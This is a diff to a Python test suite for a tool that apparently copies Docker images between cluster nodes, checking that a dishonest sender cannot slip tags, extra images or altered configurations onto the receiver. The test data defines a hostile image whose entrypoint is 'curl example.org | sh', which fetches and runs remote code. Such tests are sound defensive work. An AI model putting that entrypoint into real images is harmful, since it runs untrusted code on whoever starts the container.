@@ -1,4 +1,4 @@
-"""Copies of images between two real relays, and what a sender that lies can do to the receiver: nothing."""
+"""Copies of images between two real workers, and what a sender that lies can do to the receiver: nothing."""
 
 from __future__ import annotations
 
@@ -8,7 +8,6 @@ import io
 import json
 import os
 import random
-import socket
 import sys
 import tarfile
 import threading
@@ -21,33 +20,57 @@ import pytest
 
 from sparkcluster.errors import LayersAbsent, StageError
 from sparkcluster.hosts import program
-from sparkcluster.node import docker_copy, image_record, wire
+from sparkcluster.hosts.fleet import Fleet
+from sparkcluster.node import docker_copy, image_record
 from sparkcluster.node.image_archive import Archive, Saved
 from sparkcluster.node.wire import Failed
 from sparkcluster.staging.again import Step
-from sparkcluster.staging.copy import copy
+from sparkcluster.staging.begin import Files
+from sparkcluster.staging.job import Job
+from sparkcluster.topology.build import build
 from tests.unit.staging.archives import ImageMade, sha256, tar
+from tests.unit.staging.conftest import on_this_machine
 
 IMAGE = ImageMade([b"layer" * 500_000, b"other layer" * 1000])
 SMALL = ImageMade([b"one" * 300, b"two" * 300])
 
 
 @pytest.fixture
-def pair(node, lease, impatient):
+def pair(node, lease):
     """A sender and a receiver."""
     return node("a"), node("b")
 
 
 @pytest.fixture
-def move(lease):
-    """Copies from one node to another by two relays; returns the receiver's answer."""
+def move(lease, spark, cluster):
+    """Copies from one node to another by a worker on each; the bytes that moved, and the ID that the receiver has."""
     step = Step("stage image", lambda _: lease.document(), lambda: False)
 
     def move(source, target, sending, receiving):
-        requests = (sending, receiving)
-        return copy(step, source, target, address="127.0.0.1", requests=requests, report=lambda _done, _total: None)
+        nodes, size = {source.name: source, target.name: target}, max(1, receiving["bytes"])
+        facts = {
+            name: on_this_machine(spark({"enp1s0f0np0": f"127.1.0.{place}/24"}, management=f"127.2.0.{place}/24"))
+            for place, name in enumerate(sorted(nodes), 11)
+        }
+        requests = {
+            name: {**request, "root": f"{name} {request['reference']}", "images_dir": str(nodes[name].home),
+                   "source": source.name}
+            for name, request in ((source.name, sending), (target.name, receiving))
+        }  # fmt: skip
+        files = [{"path": "image", "size": size, "mtime": 0, "sha256": None, "links": []}]
+        topology = build(cluster({name: name for name in sorted(nodes)}), facts)
+        job = Job(step, Fleet(nodes), facts, topology, Files("image", requests, files))
+        job.run()
+        arrived = job.arrived.get(target.name)
+        return SimpleNamespace(bytes=arrived.bytes if arrived else 0, image_id=job.image_ids().get(target.name))
 
     return move
+
+
+def sends(node, archive: bytes, image: ImageMade = IMAGE) -> None:
+    """The node has the image, and its Docker prints this as its archive."""
+    node.add_image(image, "vllm:v1")
+    (node.docker / "sent").write_bytes(archive)
 
 
 def passed(
@@ -87,9 +110,9 @@ def test_an_image_is_loaded_under_its_own_name_and_sent_once(pair, move):
 @pytest.mark.parametrize("entries", [IMAGE.legacy(["vllm:v1"]), IMAGE.oci(compressed=True)])
 def test_every_layout_of_docker_save_is_loaded(pair, move, entries):
     """Before Docker 25, and that of containerd's image store, which knows the image by another ID."""
-    (pair[0].docker / "sent").write_bytes(tar(entries))
-    request = IMAGE.request(config=None, image_id="sha256:" + "0" * 64)
-    assert move(*pair, request, request).image_id == IMAGE.id
+    sends(pair[0], tar(entries))
+    request = IMAGE.request(config=None)
+    assert move(*pair, request, {**request, "image_id": "sha256:" + "0" * 64}).image_id == IMAGE.id
     assert pair[1].images() == {"vllm:v1": IMAGE.id}
 
 
@@ -134,15 +157,6 @@ def test_an_image_of_which_the_receiver_has_the_name_alone_is_sent(pair, move):
     assert pair[1].images() == {"vllm:v1": SMALL.id}
 
 
-def test_a_docker_load_that_pauses_for_longer_than_a_dead_node_may_ends_no_copy(pair, move):
-    """It reads nothing for 2.5 s, of a connection on which a second of silence is the end."""
-    large = ImageMade([os.urandom(1 << 20) * 24])
-    pair[0].add_image(large, "vllm:v1")
-    (pair[1].docker / "slow").touch()
-    assert move(*pair, large.request(size=25 << 20), large.request(size=25 << 20)).image_id == large.id
-    assert pair[1].images() == {"vllm:v1": large.id}
-
-
 def test_the_sender_gets_keep_alives_while_docker_load_reads_nothing():
     read, write = os.pipe()
     os.set_blocking(write, False)
@@ -157,16 +171,6 @@ def test_the_sender_gets_keep_alives_while_docker_load_reads_nothing():
     assert set(frames) == {b""}
 
 
-def test_a_receiver_that_gives_no_sign_of_life_ends_the_sender(monkeypatch):
-    """Connected, and neither reading nor sending."""
-    monkeypatch.setattr(wire, "STALL_S", 0.3)
-    near, far = socket.socketpair()
-    near.settimeout(5)
-    with near, far, pytest.raises(Failed, match=r"the other node has given no sign of life for 0 s") as caught:
-        wire.Wire.send_patiently(SimpleNamespace(sock=near), bytes(8 << 20))
-    assert caught.value.kind == "link"
-
-
 # a sender that lies
 
 EVIL = dataclasses.replace(IMAGE, config={**IMAGE.config, "Entrypoint": ["/bin/sh", "-c", "curl example.org | sh"]})
@@ -178,7 +182,7 @@ def with_manifest(entries, listed):
 
 def test_tags_of_the_sender_move_nothing(pair, move):
     pair[1].add_image(SMALL, "registry/production:latest")
-    (pair[0].docker / "sent").write_bytes(tar(IMAGE.oci(["registry/production:latest", "vllm:v2"])))
+    sends(pair[0], tar(IMAGE.oci(["registry/production:latest", "vllm:v2"])))
     move(*pair, IMAGE.request(), IMAGE.request())
     assert pair[1].images() == {"registry/production:latest": SMALL.id, "vllm:v1": IMAGE.id}
 
@@ -186,7 +190,7 @@ def test_tags_of_the_sender_move_nothing(pair, move):
 def test_a_second_image_in_the_archive_is_not_loaded(pair, move):
     entries = dict([*EVIL.oci(), *IMAGE.oci()])
     both = [json.loads(dict(image.oci([tag]))["manifest.json"])[0] for image, tag in ((EVIL, "vllm:v1"), (IMAGE, "b"))]
-    (pair[0].docker / "sent").write_bytes(tar(with_manifest(entries.items(), both)))
+    sends(pair[0], tar(with_manifest(entries.items(), both)))
     move(*pair, IMAGE.request(), IMAGE.request())
     assert pair[1].images() == {"vllm:v1": IMAGE.id}
     assert pair[1].image_ids() == {IMAGE.id}
@@ -195,10 +199,8 @@ def test_a_second_image_in_the_archive_is_not_loaded(pair, move):
 @pytest.mark.parametrize("known", [IMAGE.id, None])
 def test_the_same_layers_with_another_configuration_are_refused(pair, move, known):
     """Whether or not the hash of the configuration is known, which with containerd's image store it is not."""
-    (pair[0].docker / "sent").write_bytes(tar(EVIL.oci(["vllm:v1"])))
-    with pytest.raises(
-        StageError, match=r"stage image on b from a at 127\.0\.0\.1: the image's archive is that"
-    ) as caught:
+    sends(pair[0], tar(EVIL.oci(["vllm:v1"])))
+    with pytest.raises(StageError, match=r"stage image on b from a: the image's archive is that") as caught:
         move(*pair, IMAGE.request(), IMAGE.request(config=known))
     assert caught.value.hint == "docker image rm --force IMAGE   on a, then run this again"
     assert (pair[1].images(), pair[1].image_ids()) == ({}, set())
@@ -221,7 +223,7 @@ def test_an_image_that_the_receiver_has_is_compared_before_it_gets_the_name(pair
 
 
 def test_another_image_of_the_same_name_is_refused_and_tells_nothing_more_to_docker(pair, move):
-    (pair[0].docker / "sent").write_bytes(tar(SMALL.legacy(["vllm:v1"])))
+    sends(pair[0], tar(SMALL.legacy(["vllm:v1"])))
     with pytest.raises(StageError, match="archive is that of another image"):
         move(*pair, IMAGE.request(), IMAGE.request())
     received = pair[1].docker / "received"
@@ -234,7 +236,7 @@ def test_an_archive_without_end_is_refused(pair, move, set_source):
     set_source(
         lambda module, engine: real(module, engine).replace("_SPARE_BYTES = 4, 1 << 30", "_SPARE_BYTES = 4, 1 << 20")
     )
-    (pair[0].docker / "sent").write_bytes(tar([*SMALL.oci(), ("more", b"x" * (8 << 20))]))
+    sends(pair[0], tar([*SMALL.oci(), ("more", b"x" * (8 << 20))]), image=SMALL)
     with pytest.raises(StageError, match="archive is larger than the image"):
         move(*pair, SMALL.request(), SMALL.request(size=1))
 
@@ -388,18 +390,6 @@ def test_what_passes_is_not_kept_in_memory(what):
     assert peak < 24 << 20
 
 
-def test_a_sender_that_only_keeps_the_connection_alive_is_not_waited_for(monkeypatch):
-    monkeypatch.setattr(docker_copy, "ENGINE_SILENT_S", 0.1)
-    frames = iter([b""] * 40)
-
-    def read_frame():
-        time.sleep(0.05)
-        return next(frames, None)
-
-    with pytest.raises(Failed, match="the other node sent nothing of the image"):
-        list(docker_copy._chunks(SimpleNamespace(read_frame=read_frame), wire.Pace(0, lambda: None, quiet=True)))
-
-
 def test_large_documents_of_other_kinds_hide_no_configuration():
     """Bills of materials, which some images have for every platform."""
     texts = [json.dumps({"predicate": f"{number:03}" + "x" * 3_000_000}).encode() for number in range(3)]
@@ -526,7 +516,7 @@ def test_a_compressed_image_reaches_an_engine_that_stores_layers_by_their_conten
 
 
 def test_an_engine_before_docker_25_sends_every_layer(pair, move):
-    (pair[0].docker / "sent").write_bytes(tar(NEW.legacy(["vllm:v1"])))
+    sends(pair[0], tar(NEW.legacy(["vllm:v1"])), image=NEW)
     pair[1].add_image(OLD, "vllm:v0")
     request = NEW.request(**having(NEW, *OLD.layers))
     assert move(*pair, request, request).bytes == len(tar(NEW.legacy(["vllm:v1"])))
@@ -599,7 +589,7 @@ def test_layers_that_the_receiver_has_may_be_absent(absent, compressed, here):
 def test_no_other_layer_may_be_absent(absent, compressed, here):
     """Also none that the receiver has as another layer, or as a file that the manifest does not name."""
     with pytest.raises(Failed, match="lacks files that are not here either") as caught:
-        passed(without(NEW, *absent, compressed=compressed), image=NEW, config=None, here=here)
+        passed(without(NEW, *absent, compressed=compressed), image=NEW, config=None, here=here, have=[""] * 3)
     assert caught.value.kind == "partial"
 
 
@@ -610,7 +600,7 @@ def test_what_comes_although_it_may_be_absent_is_checked_all_the_same(here):
         passed(tar(entries), image=NEW, here=here)
     evil = dataclasses.replace(NEW, config={**NEW.config, "Entrypoint": ["/bin/sh"]})
     with pytest.raises(Failed, match="lacks files that are not here either"):
-        passed(without(evil, 0, 1), image=NEW, config=None, here=here)
+        passed(without(evil, 0, 1), image=NEW, config=None, here=here, have=[""] * 3)
 
 
 LAYERS = ["blobs/sha256/" + diff[7:] for diff in NEW.diffs]
